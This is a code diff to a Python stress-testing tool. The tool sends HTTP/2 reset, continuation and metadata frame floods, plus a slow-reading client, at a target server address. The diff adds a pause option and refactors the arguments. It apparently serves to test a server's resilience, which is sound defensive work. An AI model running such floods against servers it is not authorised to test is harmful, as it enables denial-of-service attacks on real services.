@@ -149,15 +149,16 @@ class Connection:
                 self.socket.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
 
 
-def attack(addr: str, frames: Iterator[bytes], per_write: int) -> dict[str, object]:
+def attack(addr: str, frames: Iterator[bytes], args: argparse.Namespace) -> dict[str, object]:
     """Sends frames, so many at a time, until there are no more or the server has had enough."""
     connection = Connection(addr)
     sent = 0
     batch: list[bytes] = []
     for frame in frames:
         batch.append(frame)
-        if len(batch) == per_write:
+        if len(batch) == args.per_write:
             connection.write(b"".join(batch))
+            time.sleep(args.pause_ms / 1000)
             sent += len(batch)
             batch = []
         if connection.closed:
@@ -179,8 +180,8 @@ def slow_reader(addr: str, seconds: float, fps: float, file: str) -> dict[str, o
     """A camera that never lets the server send a byte of an answer, and keeps sending frames."""
     from pathlib import Path
 
-    from client import request
-    from wire import Wire, prefixed
+    from client import prefixed, request
+    from wire import Wire
 
     data = Path(file).read_bytes()
     frames = sent_bytes = 0
@@ -216,19 +217,18 @@ def main() -> None:
     parser.add_argument("--count", type=int, default=1)
     parser.add_argument("--size", type=int, default=0)
     parser.add_argument("--per-write", type=int, default=PER_WRITE)
+    parser.add_argument("--pause-ms", type=float, default=0.0)
     parser.add_argument("--seconds", type=float, default=10.0)
     parser.add_argument("--fps", type=float, default=10.0)
     parser.add_argument("--file", default="")
     args = parser.parse_args()
     match args.kind:
         case "reset":
-            found = attack(args.addr, resets(args.addr, args.count), args.per_write)
+            found = attack(args.addr, resets(args.addr, args.count), args)
         case "continuation":
-            found = attack(
-                args.addr, continuations(args.addr, args.count, args.size), args.per_write
-            )
+            found = attack(args.addr, continuations(args.addr, args.count, args.size), args)
         case "metadata":
-            found = attack(args.addr, metadata(args.addr, args.count, args.size), args.per_write)
+            found = attack(args.addr, metadata(args.addr, args.count, args.size), args)
         case _:
             found = slow_reader(args.addr, args.seconds, args.fps, args.file)
     print(json.dumps(found))
